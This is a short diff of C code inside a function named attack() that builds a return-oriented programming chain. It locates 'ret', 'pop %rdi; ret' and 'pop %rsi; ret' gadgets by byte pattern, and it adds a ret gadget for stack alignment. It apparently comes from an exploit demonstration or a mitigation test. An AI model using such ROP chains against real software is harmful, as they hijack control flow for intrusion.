@@ -22,6 +22,7 @@ static void attack(void)
 	void *there[5] = { __builtin_frame_address(0), (void *)ends_in("\xc3", 1),
 			   (void *)(uintptr_t)at };
 
+	*at++ = ends_in("\xc3", 1); /* so that the stack is aligned in the end */
 	*at++ = ends_in("\x5f\xc3", 2); /* pop %rdi; ret */
 	*at++ = (uintptr_t)-1;
 	*at++ = ends_in("\x5e\xc3", 2); /* pop %rsi; ret */
